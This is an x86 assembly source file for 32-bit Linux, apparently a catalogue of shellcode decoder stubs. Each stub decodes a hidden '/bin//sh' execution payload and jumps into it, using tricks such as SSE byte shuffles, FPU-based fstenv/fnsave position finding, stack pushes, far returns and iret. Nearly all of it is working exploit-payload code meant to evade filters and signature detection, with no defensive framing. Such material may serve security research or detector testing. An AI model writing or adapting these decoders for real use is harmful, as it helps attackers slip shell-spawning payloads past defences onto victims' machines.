; Decoders by what carries the payload, finds it, and goes there: vectors, the FPU, the stack, far and interrupt returns.
; One kind, as in decoders_keys.asm.

;= shuffled_vector 32 | linux x86 | execute /bin//sh
	jmp down
up:	pop esi
	lea eax, [esi + 32]
	movdqu xmm1, [eax]
	movdqu xmm0, [esi]
	movdqu xmm2, [esi + 16]
	pshufb xmm0, xmm1
	pshufb xmm2, xmm1
	pcmpeqd xmm3, xmm3
	pxor xmm0, xmm3
	pxor xmm2, xmm3
	movdqu [esi], xmm0
	movdqu [esi + 16], xmm2
	jmp esi
down:	call up
%assign j 0
%rep 32
%assign from (j & 16) | (15 - (j & 15))
%if from < LENGTH
FROM from
	db ~c & 0xff
%else
	db 0x6f
%endif
%assign j j + 1
%endrep
	db 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1, 0

;= by_the_fpu 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	push byte LENGTH / 8
	pop ecx
	mov edi, esi
	push dword 0x12345678
next:	fild qword [edi]
	fisub dword [esp]
	fistp qword [edi]
	add edi, byte 8
	loop next
	jmp esi
down:	call up
%assign j 0
%rep LENGTH / 8
DOUBLE 2 * j
%assign low c
DOUBLE 2 * j + 1
	dq low + (c << 32) + 0x12345678
%assign j j + 1
%endrep

;= pushed_by_a_loop 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	add esi, byte payload - here
	push byte LENGTH / 4
	pop ecx
next:	push dword [esi + ecx * 4 - 4]
	xor dword [esp], 0x5a5aa5a5
	loop next
	call esp
payload: DOUBLES c ^ 0x5a5aa5a5

;= call_leaves_it_below 32 | linux x86 | execute /bin//sh
	call back
here:	mov ebp, [esp - 4]
	lea ebp, [ebp + payload - here]
	push byte LENGTH
	pop ecx
next:	add byte [ebp + ecx - 1], 0x39
	loop next
	jmp ebp
back:	ret
payload: ENCODE c - 0x39

;= fstenv_waits 32 | linux x86 | execute /bin//sh
	fnop
	fstenv [esp - 12]
	pop esi
	lea edi, [esi + payload - $$ + 0]
	push byte LENGTH
	pop ecx
next:	dec byte [edi + ecx - 1]
	rol byte [edi + ecx - 1], 1
	loop next
	jmp edi
payload: ENCODE ((((c >> 1) | (c << 7)) & 0xff) + 1)

;= fsave_whole 32 | linux x86 | execute /bin//sh
start:	fldz
	sub esp, byte 0x7c
	fnsave [esp]
	mov esi, [esp + 12]
	add esi, byte payload - start
	push byte LENGTH
	pop ecx
next:	inc byte [esi + ecx - 1]
	neg byte [esi + ecx - 1]
	loop next
	jmp esi
payload: ENCODE (-c - 1)

;= far_return 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	push byte LENGTH
	pop ecx
next:	xor byte [esi + ecx - 1], 0x44
	loop next
	push cs
	push esi
	retf
down:	call up
	ENCODE c ^ 0x44

;= int_return 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop edi
	push edi
	push byte LENGTH
	pop ecx
next:	xor byte [edi], 0x71
	inc edi
	loop next
	pop edi
	pushf
	push cs
	push edi
	iret
down:	call up
	ENCODE c ^ 0x71

;= all_registers 32 | linux x86 | execute /bin//sh
	call here
here:	pusha
	mov ebp, [esp + 32]
	lea edi, [ebp + payload - here]
	xor ecx, ecx
	mov ch, LENGTH
next:	movzx ebx, ch
	xor byte [edi + ebx - 1], 0x93
	sub cx, 0x100
	jnz next
	popa
	pop eax
payload: ENCODE c ^ 0x93

;= enter_leave 32 | linux x86 | execute /bin//sh
	call up
payload: ENCODE c - 0x5c
up:	pop edx
	enter 0x30, 0
	lea edi, [ebp - 0x30]
	mov esi, edx
	push byte LENGTH
	pop ecx
	rep movsb
	mov cl, LENGTH
	lea edi, [ebp - 0x31]
next:	add byte [edi + ecx], 0x5c
	loop next
	inc edi
	jmp edi

;= words_of_flags 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop esi
	push byte LENGTH
	pop ecx
next:	mov ah, [esi]
	xor ah, 0x2a
	mov [esi], ah
	lahf
	sahf
	inc esi
	dec ecx
	jg next
	jmp short payload
down:	call up
payload: ENCODE c ^ 0x2a

;= pointer_in_eax 32 | linux x86 | execute /bin//sh
start:	lea esi, [eax + payload - start]
	push byte LENGTH
	pop ecx
next:	xor byte [esi + ecx - 1], 0x61
	loop next
	jmp esi
payload: ENCODE c ^ 0x61

;= pointer_in_esp 32 | linux x86 | execute /bin//sh
start:	mov esi, esp
	add esi, byte payload - start
	push byte LENGTH
	pop ecx
next:	sub byte [esi + ecx - 1], 0x61
	loop next
	jmp esi
payload: ENCODE c + 0x61

;= near_jump_down 32 | linux x86 | execute /bin//sh
	jmp near down
up:	pop ebp
	push byte LENGTH
	pop ecx
next:	xor byte [ebp + ecx - 1], 0x61
	loop next
	jmp ebp
	times 180 db 0x61
down:	call up
	ENCODE c ^ 0x61

;= return_to_it 32 | linux x86 | execute /bin//sh
	call here
here:	add dword [esp], byte payload - here
	mov ebx, [esp]
	push byte LENGTH
	pop ecx
next:	not byte [ebx + ecx - 1]
	loop next
	ret
payload: ENCODE ~c

;= call_and_count 32 | linux x86 | execute /bin//sh
	call $ + 4
	db 0xc1			; ffc1: inc ecx
	pop ebx
	add ebx, byte 31
	push byte LENGTH
	pop ecx
	lea ebx, [ebx]
next:	xor byte [ebx + ecx - 8], 0x61
	loop next
	lea ebx, [ebx - 7]
	jmp ebx
	nop
	nop
payload: ENCODE c ^ 0x61

;= ebp_frame 32 | linux x86 | execute /bin//sh
	push ebp
	mov ebp, esp
	call here
here:	mov eax, [ebp - 4]
	add eax, byte payload - here
	xor ecx, ecx
next:	xor byte [eax + ecx], 0x61
	inc ecx
	cmp ecx, LENGTH
	jl next
	leave
	jmp eax
payload: ENCODE c ^ 0x61

;= call_in_a_call 32 | linux x86 | execute /bin//sh
	call one
back:	push byte LENGTH
	pop ecx
next:	xor byte [esi + ecx - 1], 0x61
	loop next
	jmp esi
one:	mov esi, [esp]
	add esi, byte payload - back
	ret
payload: ENCODE c ^ 0x61

;= jumps_between_instructions 32 | linux x86 | execute /bin//sh
	call a
a:	pop esi
	jmp short b
	db 0x0f, 0x0b
b:	add esi, byte payload - a
	jmp short d
	db 0xf1, 0xe8
d:	push byte LENGTH
	jmp short f
	db 0xff
f:	pop ecx
g:	jmp short h
	db 0x9a
h:	xor byte [esi], 0x61
	jmp short k
	db 0xea
k:	inc esi
	dec ecx
	jz m
	jmp short g
	db 0xcc
m:	jmp short payload
	db 0xe9
payload: ENCODE c ^ 0x61
